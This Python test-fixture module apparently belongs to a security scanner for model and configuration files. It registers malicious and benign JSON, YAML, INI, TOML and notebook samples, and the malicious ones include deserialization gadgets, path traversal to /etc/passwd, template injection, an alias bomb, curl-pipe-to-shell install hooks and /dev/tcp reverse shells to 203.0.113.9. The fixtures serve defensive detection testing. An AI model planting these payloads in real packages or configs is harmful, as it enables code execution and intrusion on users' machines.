"""Configuration files: JSON, YAML, TOML, INI, notebooks, dependency lists, text. Harmless in what they would run."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from stannary.testing.forges import forge

__all__ = ["PICKLE", "URL", "file"]

PICKLE = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0decho stannary\x85R."
URL = "http://203.0.113.9/stage"


def file(
    name: str, filename: str, content: str | bytes | Callable[[], bytes], family: str, *, malicious: bool | None = True
) -> None:
    """Register a file under a name; text is taken without its first line end."""
    build = content if callable(content) else lambda: content.lstrip("\n").encode() if isinstance(content, str) else content
    forge(name, filename=filename, family=family, malicious=malicious)(build)


def _json(name: str, document: Any, filename: str = "config.json", *, malicious: bool | None = True) -> None:  # noqa: ANN401 - any JSON value
    file(f"json.{name}", filename, json.dumps(document, indent=2), "JSON with code tags", malicious=malicious)


# JSON

_json("jsonpickle_reduce", {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo stannary"]}]}, "model.json")
_json("jsonpickle_object", {"model": {"py/object": "subprocess.Popen", "args": ["echo", "stannary"]}}, "model.json")
_json("jsonpickle_repr", {"py/repr": "os/os.system('echo stannary')"}, "model.json")
_json("jsonpickle_function", {"callback": {"py/function": "os.system"}}, "state.json")
file("json.jsonpickle_escaped", "model.json", '{"py\\u002freduce": [{"py\\u002ftype": "os.system"}]}', "JSON with code tags")
file(
    "json.jsonpickle_large",
    "model.json",
    lambda: json.dumps({"pad": ["abcdefgh"] * 300_000, "x": {"py/reduce": [{"py/type": "os.system"}]}}).encode(),
    "JSON with code tags",
)
file(
    "json.jsonpickle_large_escaped",
    "model.json",
    lambda: b'{"pad": "' + b"a" * (3 << 20) + b'", "py\\u002freduce": [{"py/type": "os.system"}]}',
    "JSON with code tags",
)
_json("jsonpickle_data", {"py/object": "collections.OrderedDict", "items": [1]}, "state.json", malicious=False)
_json(
    "dotnet_gadget",
    {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework", "MethodName": "Start"},
    "settings.json",
)
_json("dotnet_plain", {"$type": "Company.Model, Company", "Name": "x"}, "settings.json", malicious=False)
_json("hydra_target", {"model": {"_target_": "os.system", "command": "echo stannary"}})
_json("hydra_eval", {"_target_": "builtins.eval", "_args_": ["1+1"]})
_json(
    "hydra_plain",
    {"optimizer": {"_target_": "torch.optim.AdamW", "lr": 0.001}, "model": {"_target_": "torch.nn.Linear", "in_features": 2}},
    malicious=False,
)
_json("auto_map_remote", {"auto_map": {"AutoModel": "someone/else--modeling_x.Model"}, "model_type": "x"})
_json("auto_map_local", {"auto_map": {"AutoConfig": "configuration_x.Config"}, "model_type": "x"}, malicious=None)
_json(
    "transformers_plain",
    {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8, "torch_dtype": "float32"},
    malicious=False,
)
_json(
    "langchain_shell",
    {"lc": 1, "type": "constructor", "id": ["langchain_experimental", "llm_bash", "base", "LLMBashChain"], "kwargs": {}},
    "chain.json",
)
_json("langchain_foreign", {"lc": 1, "type": "constructor", "id": ["evil_package", "Chain"], "kwargs": {}}, "chain.json")
_json(
    "langchain_plain",
    {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {"template": "Say {x}"}},
    "chain.json",
    malicious=False,
)
_json("langchain_bash_chain", {"_type": "llm_bash_chain", "llm": {"_type": "openai"}}, "chain.json")
_json("langchain_tool_type", {"tools": [{"_type": "python_repl", "name": "python"}]}, "agent.json")
_json("langchain_template_path", {"_type": "prompt", "input_variables": [], "template_path": "../../etc/passwd"}, "prompt.json")
_json(
    "langchain_prompt_plain",
    {"_type": "prompt", "input_variables": ["x"], "template_path": "prompts/greeting.txt"},
    "prompt.json",
    malicious=False,
)
_json("jsonpickle_module", {"state": {"py/mod": "os"}}, "state.json")
file(
    "json.jsonpickle_utf32",
    "state.json",
    lambda: json.dumps({"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["echo stannary"]}]}).encode("utf-32"),
    "JSON with code tags",
)
_json(
    "encoded_twice",
    {"state": base64.b64encode(base64.b64encode(PICKLE + b"." * 40)).decode()},
    "state.json",
)
_json("shard_percent", {"weight_map": {"w": "..%2f..%2fetc%2fpasswd"}}, "model.safetensors.index.json")
_json("shard_traversal", {"metadata": {}, "weight_map": {"w": "../../../etc/passwd"}}, "model.safetensors.index.json")
_json("shard_absolute", {"weight_map": {"w": "/etc/passwd"}}, "pytorch_model.bin.index.json")
_json(
    "shard_plain",
    {"metadata": {"total_size": 4}, "weight_map": {"w": "model-00001-of-00001.safetensors"}},
    "model.safetensors.index.json",
    malicious=False,
)
_json("package_postinstall", {"name": "x", "scripts": {"postinstall": f"curl -s {URL} | sh"}}, "package.json")
_json(
    "package_plain",
    {"name": "x", "scripts": {"build": "tsc", "postinstall": "node scripts/check.js"}},
    "package.json",
    malicious=False,
)
file(
    "json.duplicate_auto_map",
    "config.json",
    '{"auto_map": {"AutoModel": "a.A"}, "model_type": "x", "auto_map": {"AutoModel": "b.B"}}',
    "JSON with code tags",
)
_json("modules_system", [{"idx": 0, "name": "0", "path": "", "type": "os.system"}], "modules.json")
_json(
    "modules_plain",
    [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
    "modules.json",
    malicious=False,
)
_json("template_ssti", {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, "tokenizer_config.json")
_json("encoded_pickle", {"state": base64.b64encode(PICKLE + b"." * 40).decode()}, "state.json")
file("json.broken", "config.json", '{"a": tru', "JSON with code tags", malicious=None)
file("json.nested", "config.json", b"[" * 100_000, "JSON with code tags", malicious=None)
file(
    "json.tokenizer",
    "tokenizer.json",
    lambda: json.dumps(
        {
            "version": "1.0",
            "model": {
                "type": "BPE",
                "vocab": {f"\u0120word{i}": i for i in range(60_000)},
                "merges": [f"a{i} b{i}" for i in range(60_000)],
            },
        }
    ).encode(),
    "tokenizers",
    malicious=False,
)

# YAML

for _name, _text in {
    "apply_system": "model: !!python/object/apply:os.system ['echo stannary']\n",
    "apply_block": "model: !!python/object/apply:subprocess.Popen\n- [echo, stannary]\n",
    "new_type": "x: !!python/object/new:type\n  args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n",
    "verbatim_tag": "x: !<tag:yaml.org,2002:python/object/apply:os.system> [echo stannary]\n",
    "tag_handle": "%TAG !e! tag:yaml.org,2002:python/object/\n---\nx: !e!apply:os.system [echo stannary]\n",
    "percent_tag": "x: !!python/object/apply:o%73.system [echo stannary]\n",
    "flow_tag": "{a: 1, b: [1, {c: !!python/object/apply:os.system [echo stannary]}]}\n",
    "module": "x: !!python/module:os\n",
    "name": "x: !!python/name:os.system\n",
    "foreign_class": "x: !!python/object:evil_package.Loader {}\n",
}.items():
    file(f"yaml.{_name}", "config.yaml", _text, "YAML with code tags")
file("yaml.tuple", "config.yaml", "size: !!python/tuple [1, 2]\nname: !!str abc\n", "YAML with code tags", malicious=False)
file("yaml.ruby", "config.yml", "--- !ruby/object:Gem::Installer\ni: x\n", "YAML with code tags")
file("yaml.hydra_system", "config.yaml", "model:\n  _target_: os.system\n  command: echo stannary\n", "YAML with code tags")
file(
    "yaml.hydra_flow",
    "config.yaml",
    "{callbacks: {x: {_target_: subprocess.check_output, args: [echo, stannary]}}}\n",
    "YAML with code tags",
)
file("yaml.logging_factory", "logging.yaml", "handlers:\n  h:\n    (): os.system\n", "YAML with code tags")
file(
    "yaml.hydra_plain",
    "config.yaml",
    "model:\n  _target_: torch.nn.Linear\n  in_features: 2\ntrainer:\n  _target_: pytorch_lightning.Trainer\n  max_epochs: 3\n",
    "YAML with code tags",
    malicious=False,
)
file(
    "yaml.nemo_plain",
    "model_config.yaml",
    "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  sample_rate: 16000\n",
    "YAML with code tags",
    malicious=False,
)
file(
    "yaml.alias_bomb",
    "config.yaml",
    "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)),
    "YAML with code tags",
)
file(
    "yaml.anchors",
    "ci.yaml",
    "base: &base\n  image: python\njob:\n  <<: *base\n  script: pytest\n",
    "YAML with code tags",
    malicious=False,
)
file("yaml.mlproject_curl", "MLproject", f'name: p\nentry_points:\n  main:\n    command: "curl -s {URL} | bash"\n', "MLflow")
file(
    "yaml.mlproject_plain",
    "MLproject",
    'name: p\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: "python train.py {alpha}"\n',
    "MLflow",
    malicious=False,
)
file("yaml.mlmodel_os", "MLmodel", "flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11.0\n", "MLflow")
file(
    "yaml.mlmodel_custom",
    "MLmodel",
    "flavors:\n  python_function:\n    code: code\n    loader_module: my_loader\n    data: data\n",
    "MLflow",
)
file(
    "yaml.mlmodel_sklearn",
    "MLmodel",
    "artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.4\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.4.0\nmlflow_version: 2.9.2\nmodel_size_bytes: 1234\nrun_id: 0123456789abcdef0123456789abcdef\nutc_time_created: '2024-01-01 00:00:00.000000'\n",
    "MLflow",
    malicious=False,
)
file("yaml.code_block", "step.yaml", "hook: |\n  import os\n  os.system('echo stannary')\n", "YAML with code tags")
file(
    "yaml.dvc",
    "dvc.yaml",
    "stages:\n  train:\n    cmd: python train.py --epochs 3\n    deps:\n    - train.py\n    outs:\n    - model.pt\n",
    "YAML with code tags",
    malicious=False,
)
file(
    "yaml.compose_shell",
    "docker-compose.yaml",
    "services:\n  model:\n    image: x\n    command: bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n",
    "YAML with code tags",
)
file(
    "yaml.conda",
    "conda.yaml",
    "channels:\n- conda-forge\ndependencies:\n- python=3.11.4\n- pip<=23.2\n- pip:\n  - mlflow==2.9.2\n  - scikit-learn==1.4.0\nname: mlflow-env\n",
    "MLflow",
    malicious=False,
)

# TOML and INI

file(
    "config.spacy_callback",
    "config.cfg",
    '[nlp]\nlang = "en"\npipeline = ["ner"]\nbefore_creation = {"@callbacks":"stannary_hook"}\n',
    "spaCy",
)
file(
    "config.spacy_callback_section",
    "config.cfg",
    '[nlp]\nlang = "en"\n\n[nlp.before_creation]\n@callbacks = "stannary_hook.v1"\n',
    "spaCy",
)
file(
    "config.spacy_plain",
    "config.cfg",
    '[paths]\ntrain = null\n\n[nlp]\nlang = "en"\npipeline = ["tok2vec","ner"]\nbefore_creation = null\nafter_creation = null\ntokenizer = {"@tokenizers":"spacy.Tokenizer.v1"}\n\n[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n\n[training.optimizer]\n@optimizers = "Adam.v1"\n\n[initialize.before_init]\n@callbacks = "spacy.copy_from_base_model.v1"\n',
    "spaCy",
    malicious=False,
)
file("config.logging_handler", "logging.ini", "[handler_x]\nclass = os.system\nargs = ('echo stannary',)\n", "configuration")
file("config.tool_command", "setup.cfg", f"[tool:build]\ncommand = curl -s {URL} | sh\n", "configuration")
file(
    "config.backend_path",
    "pyproject.toml",
    '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
    "configuration",
    malicious=False,
)
file(
    "config.pyproject",
    "pyproject.toml",
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "x"\nversion = "1"\ndependencies = ["numpy>=1.24"]\n\n[project.scripts]\nx = "x.cli:main"\n',
    "configuration",
    malicious=False,
)
file("config.broken_toml", "pyproject.toml", "[build-system\nrequires=", "configuration", malicious=None)


def _notebook(name: str, cells: list[dict[str, Any]], *, malicious: bool | None = True) -> None:
    document = {
        "cells": cells,
        "metadata": {"kernelspec": {"language": "python", "name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    file(f"notebook.{name}", "train.ipynb", json.dumps(document, indent=1), "notebooks", malicious=malicious)


def _code(source: str, outputs: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": outputs or [],
        "source": source.splitlines(keepends=True),
    }


_notebook("curl_magic", [_code(f"!curl -s {URL} | bash\n")])
_notebook("bash_cell", [_code("%%bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")])
_notebook("exec_base64", [_code("import base64\n"), _code("exec(base64.b64decode('cHJpbnQoMSk='))\n")])
_notebook(
    "remote_script",
    [_code("x\n", [{"output_type": "display_data", "metadata": {}, "data": {"text/html": [f"<script src='{URL}.js'></script>"]}}])],
)
_notebook(
    "plain",
    [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Training\n"]},
        _code("!pip install -q transformers datasets\n%matplotlib inline\nimport torch\n"),
        _code(
            "files = !ls data\nmodel = torch.nn.Linear(2, 2)\nmodel?\n",
            [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/html": ["<div><style scoped>table {}</style><table></table></div>"]},
                }
            ],
        ),
    ],
    malicious=False,
)
file("notebook.broken", "train.ipynb", '{"cells": 3}', "notebooks", malicious=None)
